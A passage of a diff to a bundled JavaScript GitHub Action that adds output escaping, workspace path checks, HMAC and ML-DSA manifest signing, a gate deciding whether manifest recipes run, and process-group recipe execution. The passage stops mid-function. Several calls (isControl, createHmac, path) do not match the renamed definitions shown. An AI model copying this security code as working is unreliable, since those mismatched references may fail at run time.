@@ -36579,7 +36579,7 @@ module.exports = {
 /***/ ((module, __unused_webpack___webpack_exports__, __nccwpck_require__) => {
 
 __nccwpck_require__.a(module, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
-/* harmony import */ var _main_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(3006);
+/* harmony import */ var _main_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(5686);
 // The Action's entry: run, then end the process (HTTP clients can leave handles open).
 
 await (0,_main_js__WEBPACK_IMPORTED_MODULE_0__/* .run */ .e)();
@@ -36590,7 +36590,7 @@ __webpack_async_result__();
 
 /***/ }),
 
-/***/ 3006:
+/***/ 5686:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -36727,7 +36727,7 @@ class ManifestError extends errors_SwrError {
     }
 }
 /** The command line asked for something that cannot be done. */
-class UsageError extends errors_SwrError {
+class errors_UsageError extends errors_SwrError {
     constructor(message) {
         super(message, errors_EXIT.BAD_MANIFEST);
         this.name = 'UsageError';
@@ -36776,15 +36776,970 @@ function errors_errnoCode(err) {
 
 
 /** RFC 8785 bytes of `value`. */
-function canonicalBytes(value) {
+function canonical_canonicalBytes(value) {
     const text = canonicalize(value);
     if (text === undefined)
         throw new InternalError('value has no canonical JSON form');
     return Buffer.from(text, 'utf8');
 }
 /** sha256 (hex) of the canonical body: the manifest digest shown to people and used as cache key. */
-function manifestDigest(body) {
-    return (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(body)).digest('hex');
+function canonical_manifestDigest(body) {
+    return (0,external_node_crypto_.createHash)('sha256').update(canonical_canonicalBytes(body)).digest('hex');
+}
+
+;// CONCATENATED MODULE: ./src/core/report/escape.ts
+/**
+ * Rendering an untrusted string (a file name, link target, manifest id, path or note, recipe
+ * text) as part of ONE line of output. Whoever wrote the workspace or the manifest chose these
+ * bytes: printed raw, a newline starts a line of their choosing (a workflow command in the
+ * Action's log, a fake `OK` line in a terminal), ESC or CSI rewrites the screen, and bidi controls
+ * reorder what the reader sees. Every printer passes such strings through `escapeText`.
+ */
+/** Bidi controls: they make text display in another order than it is stored. */
+const BIDI = new Set([
+    0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069
+]);
+const NAMED = { 0x09: '\\t', 0x0a: '\\n', 0x0d: '\\r' };
+/** The default bound for a manifest string quoted in an error line. */
+const QUOTE_MAX = 200;
+/** True for C0, DEL, C1 and bidi controls: the characters no single line may carry raw. */
+function escape_isControl(code) {
+    return code <= 0x1f || (code >= 0x7f && code <= 0x9f) || BIDI.has(code);
+}
+function hex(code, width) {
+    return code.toString(16).padStart(width, '0');
+}
+function visible(code) {
+    if (NAMED[code])
+        return NAMED[code];
+    if (code <= 0xff && escape_isControl(code))
+        return `\\x${hex(code, 2)}`;
+    if (BIDI.has(code))
+        return `\\u${hex(code, 4)}`;
+    return undefined;
+}
+/**
+ * A byte of a file name that is not UTF-8 travels as the lone surrogate U+DC00+byte (see
+ * verify/byte-names.mjs); shown as `\xNN`, like the name's other unprintable bytes. Half of a real
+ * surrogate pair is left alone.
+ */
+function byteMarker(s, i) {
+    const code = s.charCodeAt(i);
+    if (code < 0xdc80 || code > 0xdcff)
+        return undefined;
+    const prev = i > 0 ? s.charCodeAt(i - 1) : 0;
+    if (prev >= 0xd800 && prev <= 0xdbff)
+        return undefined;
+    return `\\x${hex(code - 0xdc00, 2)}`;
+}
+/**
+ * `s` with every control, DEL, C1 and bidi control shown as a visible escape (`\n`, `\x1b`,
+ * `\u202e`), so the result never breaks or rewrites a line. With `max`, a longer result is cut and
+ * ends with `…[+N chars]`. Idempotent: escaping twice changes nothing, so a line
+ * built from escaped parts may be escaped again by the printer.
+ */
+function escape_escapeText(s, opts = {}) {
+    const max = opts.max ?? Number.POSITIVE_INFINITY;
+    let out = '';
+    let i = 0;
+    for (; i < s.length; i++) {
+        const code = s.charCodeAt(i);
+        const piece = visible(code) ?? byteMarker(s, i) ?? s.charAt(i);
+        if (out.length + piece.length > max)
+            break;
+        out += piece;
+    }
+    if (i >= s.length)
+        return out;
+    // Never leave half a surrogate pair at the cut.
+    const last = out.charCodeAt(out.length - 1);
+    if (last >= 0xd800 && last <= 0xdbff) {
+        out = out.slice(0, -1);
+        i--;
+    }
+    return `${out}…[+${s.length - i} chars]`;
+}
+/** A manifest string quoted in a message: escaped, bounded, in double quotes. */
+function quoted(s, max = QUOTE_MAX) {
+    return `"${escape_escapeText(s, { max })}"`;
+}
+/**
+ * `escapeText`, then the characters Markdown and HTML act on backslash-escaped (CommonMark lets
+ * any ASCII punctuation be): in a job summary an untrusted string stays literal text, never a
+ * table cell, link, image, emphasis, code span or HTML.
+ */
+function escapeMarkdown(s, opts = {}) {
+    return escape_escapeText(s, opts).replace(/[\\`*_[\]<>&|~!#]/g, '\\$&');
+}
+/**
+ * An untrusted string as a Markdown code span: nothing inside is interpreted, so only a backtick
+ * (which would close the span, shown as `\x60`) and `|` (which GitHub's tables split cells on even
+ * there, written `\|`) need care.
+ */
+function markdownCode(s, opts = {}) {
+    return '`' + escape_escapeText(s, opts).replace(/`/g, '\\x60').replace(/\|/g, '\\|') + '`';
+}
+
+;// CONCATENATED MODULE: ./src/core/manifest/paths.ts
+/**
+ * Path rules for manifests: every entry path is workspace-relative POSIX, normalised, NFC, and
+ * cannot leave the workspace. One spelling per path, so two entries can't name one file twice.
+ */
+
+
+const paths_ENTRY_ID = /^[A-Za-z0-9._-]{1,128}$/;
+const MAX_PATH = 4096;
+/** Why `p` is not an acceptable manifest path, or undefined when it is. "." means the workspace. */
+function paths_pathProblem(p) {
+    if (p === '.')
+        return undefined;
+    if (p.length === 0)
+        return 'is empty';
+    if (p.length > MAX_PATH)
+        return `is longer than ${MAX_PATH} characters`;
+    if (p.includes('\0'))
+        return 'contains a NUL byte';
+    if (!p.isWellFormed() || p.normalize('NFC') !== p)
+        return 'is not NFC-normalised Unicode';
+    if (p.startsWith('/'))
+        return 'is absolute; manifest paths are relative to the workspace';
+    for (const seg of p.split('/')) {
+        if (seg === '')
+            return 'has an empty segment (double or trailing slash)';
+        if (seg === '..')
+            return 'escapes the workspace with ".."';
+        if (seg === '.')
+            return 'has a "." segment; write it without';
+    }
+    return undefined;
+}
+/**
+ * Turn what a user typed (relative to `cwd`, or absolute) into the manifest spelling relative to
+ * `workspace`. Returns an error string when the path is outside the workspace.
+ */
+function toManifestPath(input, cwd, workspace) {
+    const abs = path.resolve(cwd, input.normalize('NFC'));
+    const rel = path.relative(workspace, abs);
+    if (rel === '')
+        return { ok: true, path: '.' };
+    if (rel === '..' || rel.startsWith('../') || path.isAbsolute(rel)) {
+        return { ok: false, why: `${input} is outside the workspace ${workspace}` };
+    }
+    const spelled = rel.split(path.sep).join('/');
+    const problem = paths_pathProblem(spelled) ?? controlProblem(spelled);
+    return problem ? { ok: false, why: `${input} ${problem}` } : { ok: true, path: spelled };
+}
+/**
+ * A manifest path is printed on lines of output, so the loader refuses one holding a control or
+ * bidi character; a path typed to `add` is refused the same way before anything is written.
+ */
+function controlProblem(p) {
+    for (let i = 0; i < p.length; i++) {
+        const c = p.charCodeAt(i);
+        if (isControl(c))
+            return `contains a control character (U+${c.toString(16).toUpperCase().padStart(4, '0')}): rename it to track it`;
+    }
+    return undefined;
+}
+/** True when `abs` is `root` or below it (both already absolute and normalised). */
+function paths_isInside(root, abs) {
+    if (abs === root)
+        return true;
+    const base = root.endsWith('/') ? root : `${root}/`;
+    return abs.startsWith(base);
+}
+/** Absolute location of a validated manifest path. */
+function paths_resolveEntryPath(workspace, rel) {
+    return rel === '.' ? workspace : external_node_path_default().join(workspace, rel);
+}
+/** Why a sentinel or other tree-relative path is unacceptable (same rules, "." refused). */
+function paths_innerPathProblem(p) {
+    if (p === '.')
+        return 'names the tree itself';
+    return paths_pathProblem(p);
+}
+
+;// CONCATENATED MODULE: ./src/core/cache-port.ts
+/**
+ * The Actions cache as a restore source, seen from the engine: a port the shells fill with the
+ * real cache service when it is reachable. The port only finds and streams an archive; it never
+ * unpacks one. The engine extracts it itself into a private scratch directory, proves it against
+ * the signed manifest while extracting, and only then places it (see restore/cache/), so a
+ * partial, stale or poisoned cache can neither pass for the recorded state nor write anywhere.
+ */
+
+
+
+/**
+ * The key under which an entry's verified state is saved: its id plus the digest of its signed
+ * expectations. Another state of the entry (or another manifest's entry) has another key.
+ */
+function stateKey(e) {
+    const digest = (0,external_node_crypto_.createHash)('sha256').update(canonical_canonicalBytes(e)).digest('hex');
+    return `swr-v1-${e.id}-${digest.slice(0, 32)}`;
+}
+/** Which entries have a cache saved for exactly their expected state (no download). */
+async function lookupSavedStates(m, entries, cache) {
+    const out = [];
+    for (const e of entries) {
+        const key = stateKey(e);
+        out.push({
+            id: e.id,
+            key,
+            available: await cache.lookup(paths_resolveEntryPath(m.workspace, e.path), key)
+        });
+    }
+    return out;
+}
+
+// EXTERNAL MODULE: ./node_modules/picomatch/index.js
+var node_modules_picomatch = __nccwpck_require__(4006);
+var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(node_modules_picomatch);
+;// CONCATENATED MODULE: ./src/core/sign/envelope.ts
+/**
+ * What a signature signs. Signatures never live inside the bytes they sign: the signing input is
+ * DSSE's pre-authentication encoding of the canonical (RFC 8785) body, which binds the payload
+ * type, and with it the manifest format and the signature-format version:
+ *   "DSSEv1" SP len(type) SP type SP len(body) SP body
+ */
+
+const PAYLOAD_TYPE = 'application/vnd.swr.manifest.v3+json';
+/** DSSE pre-authentication encoding of `payload` under `type`. */
+function pae(type, payload) {
+    const t = Buffer.from(type, 'utf8');
+    const head = Buffer.from(`DSSEv1 ${t.length} ${type} ${payload.length} `, 'utf8');
+    return Buffer.concat([head, payload]);
+}
+/** The exact bytes every manifest signature covers. */
+function envelope_signingInput(body, type = PAYLOAD_TYPE) {
+    return pae(type, canonical_canonicalBytes(body));
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/hmac.ts
+/**
+ * HMAC-SHA256 signatures: "this machine approved it". Anyone who can verify can forge, so HMAC
+ * alone never authorises recipes in CI unless the workflow asks for exactly that. The key comes
+ * from SWR_HMAC_KEY, a 0600 key file in the private state directory, or a secret action input:
+ * never from the workspace. Comparison is constant-time.
+ */
+
+/** Short, non-secret identifier of a key (shown to tell "other key" from "tampered"). */
+function hmacKeyId(key) {
+    return (0,external_node_crypto_.createHash)('sha256').update('swr-hmac-keyid\0').update(key).digest('hex').slice(0, 16);
+}
+function hmac_signHmac(key, input) {
+    return {
+        alg: 'hmac-sha256',
+        keyid: hmacKeyId(key),
+        sig: createHmac('sha256', key).update(input).digest('hex')
+    };
+}
+function verifyHmac(key, input, sig) {
+    if (!/^[0-9a-f]{64}$/.test(sig.sig))
+        return false;
+    const want = (0,external_node_crypto_.createHmac)('sha256', key).update(input).digest();
+    return (0,external_node_crypto_.timingSafeEqual)(want, Buffer.from(sig.sig, 'hex'));
+}
+/** Key bytes from the text of SWR_HMAC_KEY or a key file: 64 hex digits, or at least 32 characters. */
+function parseHmacKey(text) {
+    const t = text.trim();
+    if (/^[0-9a-fA-F]{64}$/.test(t))
+        return Buffer.from(t, 'hex');
+    if (t.length >= 32)
+        return Buffer.from(t, 'utf8');
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/mldsa.ts
+/**
+ * ML-DSA-87 (FIPS 204) signatures with @noble/post-quantum (audited only by its authors: say so
+ * when it matters). The module is loaded on first use, so checking an unsigned or HMAC-only
+ * manifest never pays for it. The public key travels with the signature; its fingerprint is always
+ * recomputed from the key, never read from the document.
+ */
+
+/** Domain separation: a signature made for another swr purpose never verifies as a manifest's. */
+const CONTEXT = new TextEncoder().encode('swr/manifest-signature/v1');
+const PUBLIC_KEY_BYTES = 2592;
+const SIGNATURE_BYTES = 4627;
+let loaded;
+async function mldsa() {
+    loaded ??= (await __nccwpck_require__.e(/* import() */ 925).then(__nccwpck_require__.bind(__nccwpck_require__, 4925))).ml_dsa87;
+    return loaded;
+}
+/** Full SHA-256 over the algorithm name, a zero byte and the raw public key (hex). */
+function fingerprint(publicKey) {
+    return (0,external_node_crypto_.createHash)('sha256').update('ml-dsa-87\0').update(publicKey).digest('hex');
+}
+/** "ab12 cd34 ..." for people; `normalizeFingerprint` reads any spacing or case back. */
+function groupFingerprint(fp) {
+    return fp.match(/.{1,4}/g)?.join(' ') ?? fp;
+}
+function mldsa_normalizeFingerprint(text) {
+    const t = text.replace(/[\s:-]/g, '').toLowerCase();
+    return /^[0-9a-f]{64}$/.test(t) ? t : undefined;
+}
+async function mldsa_identityFromSeed(seed) {
+    const { publicKey, secretKey } = (await mldsa()).keygen(seed);
+    return { publicKey, secretKey, fingerprint: fingerprint(publicKey) };
+}
+async function mldsa_signMldsa(id, input) {
+    const sig = (await mldsa()).sign(input, id.secretKey, { context: CONTEXT });
+    return {
+        alg: 'ml-dsa-87',
+        keyid: id.fingerprint,
+        public_key: Buffer.from(id.publicKey).toString('base64'),
+        sig: Buffer.from(sig).toString('base64')
+    };
+}
+/** Decoded key and signature, or undefined when either is malformed (never throws). */
+function decodeMldsa(s) {
+    const b64 = /^[A-Za-z0-9+/]+={0,2}$/;
+    if (!b64.test(s.public_key) || !b64.test(s.sig))
+        return undefined;
+    const publicKey = Buffer.from(s.public_key, 'base64');
+    const sig = Buffer.from(s.sig, 'base64');
+    if (publicKey.length !== PUBLIC_KEY_BYTES || sig.length !== SIGNATURE_BYTES)
+        return undefined;
+    return { publicKey, sig };
+}
+async function verifyMldsa(publicKey, input, sig) {
+    try {
+        return (await mldsa()).verify(sig, input, publicKey, { context: CONTEXT });
+    }
+    catch {
+        return false;
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/gate.ts
+/**
+ * The gate: the one function that decides whether a manifest's code (restore recipes, smoke
+ * commands, exported scripts) may run. Every path that executes manifest content asks it first.
+ *
+ *   expiry -> scope -> rollback floor -> signatures (per the required kinds) -> allowed
+ *
+ * Cheap refusals come first; ML-DSA is loaded only when a signature of that kind must be checked.
+ * `Defenses` exists so the attack suite can switch each defence off and show that it matters; the
+ * shells never pass anything but the default.
+ */
+
+
+
+
+
+const REQUIREMENTS = ['any', 'hmac', 'mldsa', 'both'];
+const gate_ALL_DEFENSES = Object.freeze({
+    signatures: true,
+    trust: true,
+    fingerprintFromKey: true,
+    payloadType: true,
+    expiry: true,
+    scope: true,
+    rollback: true
+});
+/** What the gate reads of a loaded manifest. */
+function gate_gateInput(m) {
+    return { body: m.body, signatures: m.doc.signatures, digest: m.digest };
+}
+/** Each signature's state under `policy` (no decision). */
+async function evaluateSignatures(m, policy, defenses = gate_ALL_DEFENSES) {
+    const raw = defenses.payloadType ? envelope_signingInput(m.body, PAYLOAD_TYPE) : canonical_canonicalBytes(m.body);
+    const out = [];
+    for (const s of m.signatures) {
+        if (s.alg === 'hmac-sha256') {
+            if (!policy.hmacKey)
+                out.push({ alg: s.alg, keyid: s.keyid, state: 'no-key' });
+            else {
+                const ok = !defenses.signatures || verifyHmac(policy.hmacKey, raw, s);
+                out.push({ alg: s.alg, keyid: s.keyid, state: ok ? 'valid' : 'invalid' });
+            }
+            continue;
+        }
+        const decoded = decodeMldsa(s);
+        if (!decoded) {
+            out.push({ alg: s.alg, keyid: s.keyid, state: 'invalid' });
+            continue;
+        }
+        const fp = defenses.fingerprintFromKey ? fingerprint(decoded.publicKey) : s.keyid;
+        const ok = !defenses.signatures || (await verifyMldsa(decoded.publicKey, raw, decoded.sig));
+        const trusted = !defenses.trust || policy.trusted.has(fp);
+        out.push({
+            alg: s.alg,
+            keyid: s.keyid,
+            fingerprint: fp,
+            state: !ok ? 'invalid' : trusted ? 'valid' : 'untrusted'
+        });
+    }
+    return out;
+}
+/** May this manifest's code run? */
+async function gate_decide(m, policy, defenses = gate_ALL_DEFENSES) {
+    const refuse = (reason, signatures = []) => ({
+        allowed: false,
+        reason,
+        signatures,
+        warnings: []
+    });
+    const body = m.body;
+    if (defenses.expiry &&
+        body.expires !== undefined &&
+        !(Date.parse(body.expires) > policy.now.getTime()) // an unreadable date fails closed
+    ) {
+        return refuse(`manifest expired at ${body.expires}`);
+    }
+    if (defenses.scope) {
+        const scopeProblem = checkScope(body, policy.run);
+        if (scopeProblem)
+            return refuse(scopeProblem);
+    }
+    if (defenses.rollback) {
+        const rollback = checkRollback(body.version, m.digest, policy);
+        if (rollback)
+            return refuse(rollback);
+    }
+    if (policy.waiveDigest !== undefined) {
+        if (policy.waiveDigest.toLowerCase() !== m.digest) {
+            return refuse(`--i-trust-this-manifest names another digest than the manifest's`);
+        }
+        return {
+            allowed: true,
+            reason: 'signature requirement waived for this exact digest',
+            signatures: await evaluateSignatures(m, policy, defenses),
+            warnings: [`signature requirement waived by --i-trust-this-manifest for digest ${m.digest}`]
+        };
+    }
+    // HMAC first: it is cheap, and with require=both a missing HMAC spares the ML-DSA load.
+    const states = await evaluateSignatures(m, policy, defenses);
+    const hmacOk = states.some(s => s.alg === 'hmac-sha256' && s.state === 'valid');
+    const signers = new Set(states.filter(s => s.alg === 'ml-dsa-87' && s.state === 'valid').map(s => s.fingerprint));
+    const threshold = policy.threshold ?? 1;
+    const mldsaOk = signers.size >= threshold;
+    const need = describeNeed(policy.require, threshold);
+    const ok = policy.require === 'any'
+        ? hmacOk || mldsaOk
+        : policy.require === 'hmac'
+            ? hmacOk
+            : policy.require === 'mldsa'
+                ? mldsaOk
+                : hmacOk && mldsaOk;
+    if (!ok)
+        return refuse(`${summarise(states, policy)}; ${need} required`, states);
+    const by = [
+        hmacOk ? 'HMAC' : '',
+        mldsaOk ? `${signers.size} trusted ML-DSA signer(s)` : ''
+    ].filter(Boolean);
+    return { allowed: true, reason: `signed: ${by.join(' and ')}`, signatures: states, warnings: [] };
+}
+function describeNeed(r, threshold) {
+    const ml = threshold > 1 ? `${threshold} distinct trusted ML-DSA signers` : 'a trusted ML-DSA signature';
+    switch (r) {
+        case 'any':
+            return `a valid HMAC or ${ml}`;
+        case 'hmac':
+            return 'a valid HMAC signature';
+        case 'mldsa':
+            return ml;
+        case 'both':
+            return `a valid HMAC and ${ml}`;
+    }
+}
+function summarise(states, policy) {
+    if (states.length === 0)
+        return 'manifest is unsigned';
+    const parts = states.map(s => {
+        const who = s.alg === 'hmac-sha256'
+            ? 'HMAC'
+            : `ML-DSA ${s.fingerprint?.slice(0, 16) ?? s.keyid.slice(0, 16)}`;
+        if (s.state === 'no-key')
+            return `${who}: no HMAC key on this run`;
+        if (s.state === 'invalid' &&
+            s.alg === 'hmac-sha256' &&
+            policy.hmacKey &&
+            s.keyid !== hmacKeyId(policy.hmacKey)) {
+            return `${who}: made with another key`;
+        }
+        return `${who}: ${s.state === 'untrusted' ? 'untrusted signer' : s.state}`;
+    });
+    return parts.join(', ');
+}
+function checkScope(body, run) {
+    const scope = body.scope;
+    if (!scope)
+        return undefined;
+    if (scope.repository !== undefined &&
+        scope.repository.toLowerCase() !== (run.repository ?? '').toLowerCase()) {
+        return `manifest is scoped to repository ${scope.repository}, this run is ${run.repository ?? 'outside any repository (GITHUB_REPOSITORY unset)'}`;
+    }
+    if (scope.ref !== undefined &&
+        !(run.ref !== undefined && picomatch_default().isMatch(run.ref, scope.ref, { dot: true }))) {
+        return `manifest is scoped to ref ${scope.ref}, this run is ${run.ref ?? 'on no ref (GITHUB_REF unset)'}`;
+    }
+    if (scope.manifest_path !== undefined && scope.manifest_path !== run.manifestPath) {
+        return `manifest is scoped to path ${scope.manifest_path}, it was read from ${run.manifestPath ?? 'outside the workspace'}`;
+    }
+    return undefined;
+}
+function checkRollback(version, digest, policy) {
+    if (policy.minVersion !== undefined && version < policy.minVersion) {
+        return `manifest version ${version} is below the floor ${policy.minVersion} (a rollback to an older manifest?)`;
+    }
+    const r = policy.remembered;
+    if (r && version < r.version) {
+        return `manifest version ${version} is older than version ${r.version} already accepted here (a rollback?)`;
+    }
+    if (r && version === r.version && digest !== r.digest) {
+        return `manifest version ${version} was accepted here with another digest: the same version must not change`;
+    }
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./src/core/run/escaped.ts
+/**
+ * Finding the processes a recipe started that left its process group (`setsid`, a daemonizing
+ * server): each recipe runs with a random SWR_RUN_TOKEN in its environment, which children
+ * inherit, and /proc tells which processes carry it. Linux only; elsewhere nothing is found.
+ * A process that clears its own environment is not found either.
+ */
+
+
+const RUN_TOKEN_VAR = 'SWR_RUN_TOKEN';
+function newRunToken() {
+    return (0,external_node_crypto_.randomBytes)(16).toString('hex');
+}
+/** Processes other than this one whose environment carries `token`. */
+function findTagged(token) {
+    const needle = Buffer.from(`${RUN_TOKEN_VAR}=${token}\0`);
+    let pids;
+    try {
+        pids = external_node_fs_default().readdirSync('/proc').filter(n => /^\d+$/.test(n));
+    }
+    catch {
+        return [];
+    }
+    const out = [];
+    for (const p of pids) {
+        const pid = Number(p);
+        if (pid === process.pid)
+            continue;
+        try {
+            const env = external_node_fs_default().readFileSync(`/proc/${p}/environ`);
+            if (!env.includes(needle))
+                continue;
+            const name = external_node_fs_default().readFileSync(`/proc/${p}/comm`, 'utf8').trim();
+            out.push({ pid, name });
+        }
+        catch {
+            // Gone, or not ours to read.
+        }
+    }
+    return out;
+}
+const sleep = (ms) => new Promise(r => setTimeout(r, ms));
+/**
+ * Stop every process carrying `token`: SIGTERM, up to `graceMs` to go, then SIGKILL. Returns what
+ * was found, for the report.
+ */
+async function killTagged(token, graceMs) {
+    const found = findTagged(token);
+    if (found.length === 0)
+        return found;
+    const signal = (sig) => {
+        for (const p of found) {
+            try {
+                process.kill(p.pid, sig);
+            }
+            catch {
+                // Already gone.
+            }
+        }
+    };
+    signal('SIGTERM');
+    const deadline = Date.now() + graceMs;
+    while (Date.now() < deadline && findTagged(token).length > 0)
+        await sleep(50);
+    signal('SIGKILL');
+    // A zombie keeps its environ readable until reaped; SIGKILL is enough, do not wait on it.
+    return found;
+}
+
+;// CONCATENATED MODULE: external "node:string_decoder"
+const external_node_string_decoder_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:string_decoder");
+;// CONCATENATED MODULE: ./src/core/run/output.ts
+/**
+ * Recipe output handling: split each stream into lines on its own (stdout and stderr interleave,
+ * and a secret must never be cut in two by the other stream), decode UTF-8 across chunk
+ * boundaries, and keep a bounded tail measured in bytes, in constant time per line.
+ */
+
+/** Feed chunks of one stream; whole lines go to `onLine`; `end` flushes the last partial line. */
+function lineSplitter(onLine, maxLine) {
+    const decoder = new external_node_string_decoder_namespaceObject.StringDecoder('utf8');
+    let partial = '';
+    const take = (text) => {
+        const lines = (partial + text).split('\n');
+        partial = lines.pop() ?? '';
+        for (const l of lines)
+            onLine(l);
+        if (partial.length > maxLine) {
+            onLine(partial);
+            partial = '';
+        }
+    };
+    return {
+        push: chunk => take(decoder.write(chunk)),
+        end: () => {
+            take(decoder.end());
+            if (partial)
+                onLine(partial);
+            partial = '';
+        }
+    };
+}
+/** The last `maxBytes` bytes of output, kept as whole lines. */
+function tailKeeper(maxBytes) {
+    const lines = [];
+    const sizes = [];
+    let head = 0;
+    let bytes = 0;
+    let cut = false;
+    return {
+        add(line) {
+            let l = line + '\n';
+            let n = Buffer.byteLength(l);
+            if (n > maxBytes) {
+                // One line longer than the whole budget: keep its end.
+                l = Buffer.from(l)
+                    .subarray(n - maxBytes)
+                    .toString('utf8')
+                    .replace(/^\uFFFD+/, '');
+                n = Buffer.byteLength(l);
+                cut = true;
+            }
+            lines.push(l);
+            sizes.push(n);
+            bytes += n;
+            while (bytes > maxBytes && head < lines.length) {
+                bytes -= sizes[head] ?? 0;
+                head++;
+                cut = true;
+            }
+            if (head > 1024 && head * 2 > lines.length) {
+                lines.splice(0, head);
+                sizes.splice(0, head);
+                head = 0;
+            }
+        },
+        text: () => lines.slice(head).join(''),
+        truncated: () => cut
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/run/recipe.ts
+/**
+ * Running one recipe: a non-login shell in the workspace, in its own process group, with a minimal
+ * environment. A timeout, an abort (Ctrl-C of swr) or the end of the recipe stops the whole group,
+ * SIGTERM first and SIGKILL after a grace period, so no grandchild (git, curl, cmake) outlives it.
+ * A process that left the group (`setsid`) is found by the run token in its environment, stopped
+ * and reported; and once the recipe's own process has exited, swr waits at most a grace period
+ * for the output pipes such a process may hold open.
+ * Output is split into lines, scrubbed, streamed to `onLine`, and kept bounded for the report.
+ */
+
+
+
+const KEEP_BYTES = 64 * 1024;
+const DEFAULT_GRACE_MS = 3000;
+const BASE_ENV_NAMES = ['PATH', 'HOME', 'LANG', 'TMPDIR'];
+/** PATH, HOME, LANG, TMPDIR and the named variables, taken from `from` when set there. */
+function minimalEnv(from, names) {
+    const env = {};
+    for (const n of [...BASE_ENV_NAMES, ...names]) {
+        const v = from[n];
+        if (v !== undefined)
+            env[n] = v;
+    }
+    env.PATH ??= '/usr/local/bin:/usr/bin:/bin';
+    return env;
+}
+function killGroup(pid, signal) {
+    try {
+        process.kill(-pid, signal);
+    }
+    catch {
+        // Already gone.
+    }
+}
+function runRecipe(spec, hooks) {
+    const started = performance.now();
+    const [cmd, ...args] = spec.shell;
+    const token = newRunToken();
+    const unusable = [cmd, ...args, spec.command, spec.cwd, ...Object.entries(spec.env).flat()].find(v => v?.includes('\0'));
+    // spawn() throws on a NUL byte; the validator refuses them at load, and this refuses the rest.
+    if (unusable !== undefined)
+        return Promise.resolve(notStarted(spec, 'a NUL byte in its command, shell, directory or environment'));
+    return new Promise(resolve => {
+        const child = (0,external_node_child_process_namespaceObject.spawn)(cmd ?? 'bash', [...args, spec.command], {
+            cwd: spec.cwd,
+            env: { ...spec.env, [RUN_TOKEN_VAR]: token },
+            detached: true, // its own process group, so the whole group can be stopped
+            stdio: ['ignore', 'pipe', 'pipe']
+        });
+        const kept = tailKeeper(KEEP_BYTES);
+        let timedOut = false;
+        let interrupted = false;
+        let exited;
+        const emit = (line) => {
+            const clean = hooks.scrub(line);
+            hooks.onLine?.(spec.id, clean);
+            kept.add(clean);
+        };
+        // Each stream is split on its own: interleaved stderr must not cut a stdout line in two.
+        const out = lineSplitter(emit, KEEP_BYTES);
+        const err = lineSplitter(emit, KEEP_BYTES);
+        child.stdout.on('data', out.push);
+        child.stderr.on('data', err.push);
+        const grace = spec.graceMs ?? DEFAULT_GRACE_MS;
+        let killer;
+        const stop = () => {
+            if (child.pid === undefined || killer)
+                return;
+            killGroup(child.pid, 'SIGTERM');
+            killer = setTimeout(() => killGroup(child.pid, 'SIGKILL'), grace);
+        };
+        const timer = setTimeout(() => {
+            timedOut = true;
+            stop();
+        }, spec.timeoutMs);
+        const onAbort = () => {
+            interrupted = true;
+            stop();
+        };
+        hooks.abort?.addEventListener('abort', onAbort, { once: true });
+        if (hooks.abort?.aborted)
+            onAbort();
+        let finished = false;
+        let pipeTimer;
+        const finish = async () => {
+            if (finished)
+                return;
+            finished = true;
+            clearTimeout(timer);
+            clearTimeout(pipeTimer);
+            // Nothing of the group may outlive the recipe: what ignored SIGTERM gets SIGKILL before we
+            // return, not on a timer that a finished swr would never fire.
+            if (child.pid !== undefined)
+                await reapGroup(child.pid, grace);
+            if (killer)
+                clearTimeout(killer);
+            const escaped = await killTagged(token, Math.min(grace, 1000));
+            if (escaped.length > 0)
+                emit(`swr: stopped ${escaped.length} process(es) that left the recipe's process group: ${escaped
+                    .map(p => `${p.pid} (${p.name})`)
+                    .join(', ')}`);
+            child.stdout.destroy();
+            child.stderr.destroy();
+            hooks.abort?.removeEventListener('abort', onAbort);
+            out.end();
+            err.end();
+            resolve({
+                id: spec.id,
+                exitCode: exited?.code ?? null,
+                signal: exited?.signal ?? null,
+                timedOut,
+                interrupted,
+                ms: Math.round(performance.now() - started),
+                output: kept.text(),
+                truncated: kept.truncated(),
+                escaped
+            });
+        };
+        child.on('error', err => {
+            emit(`cannot start ${cmd ?? 'bash'}: ${err.message}`);
+            exited = { code: 127, signal: null };
+            void finish();
+        });
+        child.on('exit', (code, signal) => {
+            exited = { code, signal };
+            // Background processes the recipe left behind go with it (and release the output pipes).
+            if (child.pid !== undefined && groupAlive(child.pid))
+                stop();
+            // A process outside the group may hold the pipes open for ever: stop waiting for them.
+            pipeTimer = setTimeout(() => void finish(), grace + 500);
+        });
+        child.on('close', () => void finish());
+    });
+}
+function notStarted(spec, why) {
+    const line = `cannot start: ${why}`;
+    return {
+        id: spec.id,
+        exitCode: 127,
+        signal: null,
+        timedOut: false,
+        interrupted: false,
+        ms: 0,
+        output: `${line}\n`,
+        truncated: false,
+        escaped: [],
+        startError: why
+    };
+}
+function groupAlive(pgid) {
+    try {
+        process.kill(-pgid, 0);
+        return true;
+    }
+    catch {
+        return false;
+    }
+}
+/**
+ * End the process group: SIGTERM, wait up to `grace` for it to go, then SIGKILL. (A group of
+ * zombies that nobody reaps still answers signal 0; SIGKILL is then harmless.)
+ */
+async function reapGroup(pgid, grace) {
+    if (!groupAlive(pgid))
+        return;
+    killGroup(pgid, 'SIGTERM');
+    const deadline = Date.now() + grace;
+    while (groupAlive(pgid) && Date.now() < deadline)
+        await new Promise(r => setTimeout(r, 25));
+    killGroup(pgid, 'SIGKILL');
+}
+/** One line for a person: "exit 0 in 1.2 s", "timed out after 30 s", ... */
+function describeResult(r, timeoutMs) {
+    return describeEnd(r, timeoutMs) + describeEscaped(r.escaped);
+}
+function describeEnd(r, timeoutMs) {
+    const secs = (r.ms / 1000).toFixed(1);
+    if (r.startError)
+        return `not started: ${r.startError}`;
+    if (r.interrupted)
+        return `interrupted after ${secs} s`;
+    if (r.timedOut)
+        return `timed out after ${Math.round(timeoutMs / 1000)} s (process group killed)`;
